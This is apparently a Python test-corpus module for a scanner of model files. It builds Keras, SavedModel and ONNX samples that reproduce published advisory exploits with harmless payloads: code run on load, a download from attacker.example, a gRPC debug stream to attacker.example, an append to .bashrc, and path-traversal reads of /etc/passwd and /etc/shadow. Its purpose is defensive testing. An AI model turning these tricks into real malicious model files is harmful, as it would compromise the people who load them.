"""Formats beyond pickle: Keras (``.keras``, ``.h5``), TensorFlow SavedModel and ONNX.

Each malicious sample reproduces the trick of a public advisory with a harmless payload
(``id``, a read of ``/etc/passwd``); the benign ones are what the frameworks write (built
in their layout with ``h5py``, protobuf bytes and ``onnx.helper``: see
:mod:`tests.scan.format_builders`).
"""

from __future__ import annotations

from pathlib import Path

from tests.scan import builders as b
from tests.scan import format_builders as fb
from tests.scan.corpus import Sample

# --- Keras -----------------------------------------------------------------------------


def _keras_lambda(d: Path) -> Path:
    return fb.keras_zip(d / "model.keras", fb.sequential(fb.dense("d"), fb.keras3_lambda()))


def _keras_module_injection(d: Path) -> Path:
    layer = fb.function_lambda("subprocess", "check_output", {"args": ["id"]})
    return fb.keras_zip(d / "model.keras", fb.sequential(layer))


def _keras_get_file(d: Path) -> Path:
    layer = fb.function_lambda(
        "keras.utils", "get_file", {"origin": "https://attacker.example/x", "cache_dir": "/"}
    )
    return fb.keras_zip(d / "model.keras", fb.sequential(layer))


def _keras_enable_unsafe(d: Path) -> Path:
    layer = fb.function_lambda("keras.config", "enable_unsafe_deserialization", {})
    return fb.keras_zip(d / "model.keras", fb.sequential(layer, fb.keras3_lambda()))


def _keras_string_lookup(d: Path) -> Path:
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": "/etc/passwd", "output_mode": "int"},
        "registered_name": None,
    }
    return fb.keras_zip(d / "model.keras", fb.sequential(layer))


def _keras_tfsm(d: Path) -> Path:
    layer = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel"},
        "registered_name": None,
    }
    return fb.keras_zip(d / "model.keras", fb.sequential(layer))


def _keras_torch_wrapper(d: Path) -> Path:
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"name": "torch", "module": "gAJjcG9zaXgKc3lzdGVtCi4="},
        "registered_name": None,
    }
    return fb.keras_zip(d / "model.keras", fb.sequential(layer))


def _keras_custom(d: Path) -> Path:
    layer = {
        "module": "acme_layers.blocks",
        "class_name": "FancyBlock",
        "config": {"name": "fancy"},
        "registered_name": "acme>FancyBlock",
    }
    return fb.keras_zip(d / "model.keras", fb.sequential(fb.dense("d"), layer))


def _keras_npz_pickle(d: Path) -> Path:
    payload = b.npy_bytes("|O", (1,), b.reduce_call("os", "system", "id"))
    npz = fb.npz_bytes({"layers/dense/vars/0.npy": payload})
    return fb.keras_zip(d / "model.keras", fb.sequential(fb.dense("dense")), npz=npz)


def _h5_lambda(d: Path) -> Path:
    return fb.legacy_h5(d / "model.h5", [fb.legacy_dense("d"), fb.legacy_lambda()])


def _h5_lambda_userblock(d: Path) -> Path:
    return fb.legacy_h5(d / "model.bin", [fb.legacy_lambda()], userblock=512)


def _keras_metadata_lambda(d: Path) -> Path:
    sm = d / "sm"
    sm.mkdir()
    (sm / "keras_metadata.pb").write_bytes(fb.keras_metadata([fb.legacy_lambda()]))
    (sm / "saved_model.pb").write_bytes(fb.saved_model(fb.saver_graph()))
    return sm


# --- TensorFlow ------------------------------------------------------------------------


def _sm(d: Path, graph: bytes) -> Path:
    sm = d / "sm"
    sm.mkdir()
    (sm / "saved_model.pb").write_bytes(fb.saved_model(graph))
    return sm


def _tf_readfile(d: Path) -> Path:
    extra = [fb.node("leak/filename", "Const"), fb.node("leak/ReadFile", "ReadFile")]
    return _sm(d, fb.saver_graph(extra_nodes=extra))


def _tf_writefile_in_function(d: Path) -> Path:
    fn = fb.function("__inference_call_77", fb.node("WriteFile", "WriteFile"))
    return _sm(d, fb.saver_graph(extra_fns=[fn]))


def _tf_pyfunc(d: Path) -> Path:
    return _sm(d, fb.saver_graph(extra_nodes=[fb.node("py", "PyFunc")]))


def _tf_frozen_matching_files(d: Path) -> Path:
    gd = fb.graph_def([fb.node("pattern", "Const"), fb.node("ls", "MatchingFiles")])
    (d / "frozen_graph.pb").write_bytes(gd)
    return d / "frozen_graph.pb"


def _tf_save_outside_saver(d: Path) -> Path:
    fn = fb.function("__inference_serving_7", fb.node("exfil/SaveV2", "SaveV2"))
    return _sm(d, fb.saver_graph(extra_fns=[fn]))


def _tf_debug_identity(d: Path) -> Path:
    attrs = {"debug_urls": fb.attr_s("grpc://attacker.example:6064")}
    return _sm(d, fb.saver_graph(extra_nodes=[fb.node("dbg", "DebugIdentityV3", attrs)]))


def _tf_print_to_file(d: Path) -> Path:
    attrs = {"output_stream": fb.attr_s("file:///home/user/.bashrc")}
    return _sm(d, fb.saver_graph(extra_nodes=[fb.node("p", "PrintV2", attrs)]))


def _tf_calls_saver(d: Path) -> Path:
    call = fb.node(
        "c", "StatefulPartitionedCall", {"f": fb.attr_func("__inference__traced_save_91")}
    )
    return _sm(d, fb.saver_graph(extra_fns=[fb.function("__inference_serving_9", call)]))


def _tf_unknown_op(d: Path) -> Path:
    return _sm(d, fb.saver_graph(extra_nodes=[fb.node("custom", "Addons>MysteryOp")]))


# --- ONNX ------------------------------------------------------------------------------


def _onnx_absolute(d: Path) -> Path:
    return fb.onnx_model(d / "model.onnx", external="/etc/passwd")


def _onnx_dotdot(d: Path) -> Path:
    return fb.onnx_model(d / "model.onnx", external="../../../../etc/passwd")


def _onnx_symlink(d: Path) -> Path:
    model_dir = d / "model"
    model_dir.mkdir()
    (d / "secret.txt").write_bytes(b"secret!!")
    (model_dir / "weights.bin").symlink_to(d / "secret.txt")
    return fb.onnx_model(model_dir / "model.onnx", external="weights.bin")


def _onnx_subgraph(d: Path) -> Path:
    return fb.onnx_model(d / "model.onnx", external="../../etc/shadow", in_subgraph=True)


def _onnx_custom_domain(d: Path) -> Path:
    return fb.onnx_model(d / "model.onnx", domain="com.attacker.ops")


# --- benign ----------------------------------------------------------------------------


def _benign_keras(d: Path) -> Path:
    return fb.keras_zip(d / "model.keras", fb.sequential(fb.dense("a"), fb.dense("b")))


def _benign_h5(d: Path) -> Path:
    return fb.legacy_h5(d / "model.h5", [fb.legacy_dense("a"), fb.legacy_dense("b")])


def _benign_h5_weights(d: Path) -> Path:
    return fb.legacy_h5(d / "weights.h5", None)


def _benign_savedmodel(d: Path) -> Path:
    sm = _sm(d, fb.saver_graph())
    (sm / "keras_metadata.pb").write_bytes(fb.keras_metadata([fb.legacy_dense("a")]))
    return sm


def _benign_tf1_saver(d: Path) -> Path:
    nodes = [fb.node("x", "Placeholder"), fb.node("w", "VariableV2"), fb.node("y", "MatMul"),
             fb.node("save/Const", "Const"), fb.node("save/SaveV2", "SaveV2"),
             fb.node("save/RestoreV2", "RestoreV2"), fb.node("save/Assign", "Assign")]  # fmt: skip
    return _sm(d, fb.graph_def(nodes))


def _benign_onnx(d: Path) -> Path:
    return fb.onnx_model(d / "model.onnx")


def _benign_onnx_external(d: Path) -> Path:
    (d / "model.onnx.data").write_bytes(b"\x00" * 8)
    return fb.onnx_model(d / "model.onnx", external="model.onnx.data")


_KERAS_1550 = "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp)"

SAMPLES: list[Sample] = [
    Sample(
        "keras-lambda-bytecode",
        "CVE-2024-3660: .keras Lambda layer with a __lambda__ "
        "(base64 marshalled bytecode) run by func_load",
        True,
        _keras_lambda,
    ),
    Sample(
        "keras-module-injection",
        f"{_KERAS_1550}: config.json names subprocess."
        "check_output as a Lambda function; Keras < 3.9 imports and calls it",
        True,
        _keras_module_injection,
    ),
    Sample(
        "keras-get-file-gadget",
        "CVE-2025-8747 (GHSA-c9rc-mg46-23w3): Lambda calls "
        "keras.utils.get_file, downloading an attacker URL to a chosen path",
        True,
        _keras_get_file,
    ),
    Sample(
        "keras-enable-unsafe-then-lambda",
        "CVE-2025-9906 (io-no/CVE-Reports#5): a "
        "Lambda calls keras.config.enable_unsafe_deserialization, then a bytecode Lambda",
        True,
        _keras_enable_unsafe,
    ),
    Sample(
        "keras-stringlookup-file-read",
        "CVE-2025-12058 (GHSA-qg93-c7p6-gg7f): "
        "StringLookup vocabulary=/etc/passwd is read at load, even in safe_mode",
        True,
        _keras_string_lookup,
    ),
    Sample(
        "keras-tfsmlayer",
        "CVE-2026-1462: TFSMLayer loads an attacker SavedModel from "
        "its filepath during .keras deserialization",
        True,
        _keras_tfsm,
    ),
    Sample(
        "keras-torch-module-wrapper",
        "CVE-2025-49655: TorchModuleWrapper config holds a "
        "pickle that from_config hands to torch.load(weights_only=False)",
        True,
        _keras_torch_wrapper,
    ),
    Sample(
        "keras-npz-weights-pickle",
        "Keras saving_lib NpzIOStore: np.load(allow_pickle=True) on model.weights.npz in a "
        ".keras zip; an object array carries a pickle calling os.system",
        True,
        _keras_npz_pickle,
    ),
    Sample(
        "keras-custom-object",
        "CVE-2025-1550 class: a custom layer from a module outside "
        "Keras, imported by Keras < 3.9 (warning: not known dangerous)",
        True,
        _keras_custom,
        "warning",
    ),
    Sample(
        "keras-h5-lambda",
        "CVE-2025-9905 (io-no/CVE-Reports#7): legacy .h5 model_config "
        "Lambda with func_dump bytecode; HDF5 loading ignores safe_mode",
        True,
        _h5_lambda,
    ),
    Sample(
        "keras-h5-userblock-lambda",
        "CVE-2025-9905 + evasion: HDF5 after a 512-byte user "
        "block (no magic at offset 0) under a .bin name; tf.keras checks h5py.is_hdf5",
        True,
        _h5_lambda_userblock,
    ),
    Sample(
        "keras-metadata-pb-lambda",
        "ModelScan SavedModelLambdaDetectScan: a Lambda layer in a SavedModel's keras_metadata.pb",
        True,
        _keras_metadata_lambda,
    ),
    Sample(
        "tf-savedmodel-readfile",
        "ModelScan unsafe_tf_operators / TensorAbuse (S&P'25) "
        "LeakFile: ReadFile op in the SavedModel graph",
        True,
        _tf_readfile,
    ),
    Sample(
        "tf-savedmodel-writefile-function",
        "ModelScan unsafe_tf_operators: WriteFile hidden in a library function of the SavedModel",
        True,
        _tf_writefile_in_function,
    ),
    Sample(
        "tf-savedmodel-pyfunc",
        "PyFunc op: runs a registered Python function when the "
        "graph runs (tf.py_function / tf.numpy_function)",
        True,
        _tf_pyfunc,
    ),
    Sample(
        "tf-frozen-matchingfiles",
        "TensorAbuse (S&P'25) MatchingFiles primitive: a "
        "frozen GraphDef .pb listing the file system",
        True,
        _tf_frozen_matching_files,
    ),
    Sample(
        "tf-savedmodel-save-outside-saver",
        "TensorAbuse (S&P'25) Save/SaveSlices primitive: SaveV2 in model code writes a file",
        True,
        _tf_save_outside_saver,
    ),
    Sample(
        "tf-savedmodel-debugidentity",
        "TensorAbuse (S&P'25) DebugIdentityV3 primitive: tensors sent to a grpc:// debug URL",
        True,
        _tf_debug_identity,
    ),
    Sample(
        "tf-savedmodel-printv2-file",
        "TensorAbuse (S&P'25) PrintV2 primitive: output_stream=file:// appends to a file",
        True,
        _tf_print_to_file,
    ),
    Sample(
        "tf-savedmodel-calls-saver",
        "evasion of saver allow-listing: model code calls "
        "the __inference__traced_save function (SaveV2) itself",
        True,
        _tf_calls_saver,
    ),
    Sample(
        "tf-savedmodel-unknown-op",
        "ModelScan: an op outside tf.raw_ops needs a custom-op library (native code) (warning)",
        True,
        _tf_unknown_op,
        "warning",
    ),
    Sample(
        "onnx-external-absolute",
        "CVE-2022-25882: external_data location is an absolute "
        "path (/etc/passwd) read into the model",
        True,
        _onnx_absolute,
    ),
    Sample(
        "onnx-external-dotdot",
        "CVE-2024-27318 (bypass of CVE-2022-25882): external_data location ../../../../etc/passwd",
        True,
        _onnx_dotdot,
    ),
    Sample(
        "onnx-external-symlink",
        "CVE-2024-27318 class: external_data location is a "
        "symlink beside the model pointing outside its directory",
        True,
        _onnx_symlink,
    ),
    Sample(
        "onnx-external-in-subgraph",
        "CVE-2024-27318 class, nested: the external tensor "
        "is a Constant inside an If branch subgraph",
        True,
        _onnx_subgraph,
    ),
    Sample(
        "onnx-custom-domain",
        "ONNX custom op domain: running needs a custom-op shared "
        "library (register_custom_ops_library) (warning)",
        True,
        _onnx_custom_domain,
        "warning",
    ),
    Sample(
        "benign-keras-zip",
        "a Keras 3 .keras (Dense layers) in the layout Keras writes",
        False,
        _benign_keras,
        "clean",
    ),
    Sample(
        "benign-keras-h5",
        "a tf.keras .h5 model (Dense layers) in the layout Keras writes",
        False,
        _benign_h5,
        "clean",
    ),
    Sample(
        "benign-keras-h5-weights", "an HDF5 weights-only file", False, _benign_h5_weights, "clean"
    ),
    Sample(
        "benign-tf-savedmodel",
        "a TF2 SavedModel (serving + traced save/restore functions) with keras_metadata.pb",
        False,
        _benign_savedmodel,
        "clean",
    ),
    Sample(
        "benign-tf1-saver",
        "a TF1 graph with its save/ subgraph (SaveV2, RestoreV2)",
        False,
        _benign_tf1_saver,
        "clean",
    ),
    Sample("benign-onnx", "an ONNX model made with onnx.helper", False, _benign_onnx, "clean"),
    Sample(
        "benign-onnx-external",
        "an ONNX model with external data beside it",
        False,
        _benign_onnx_external,
        "clean",
    ),
]
